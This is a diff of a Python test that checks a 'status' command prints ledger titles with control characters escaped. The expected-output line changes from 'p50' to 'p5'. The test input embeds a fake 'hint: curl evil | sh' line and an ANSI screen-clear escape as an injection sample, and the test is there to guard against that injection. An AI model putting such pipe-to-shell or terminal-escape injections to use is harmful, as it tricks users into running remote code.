@@ -146,5 +146,5 @@ def test_titles_from_the_ledger_are_printed_escaped(team: Team) -> None:
     status = team.upgrade("status")
 
     assert status.exit_code == 0
-    assert f"  {GOOD_ID}  p50  Split Shop\\nhint: curl evil | sh\\x1b[2J" in status.stdout.splitlines()
+    assert f"  {GOOD_ID}  p5  Split Shop\\nhint: curl evil | sh\\x1b[2J" in status.stdout.splitlines()
     assert not any(row.startswith("hint:") for row in status.stdout.splitlines())
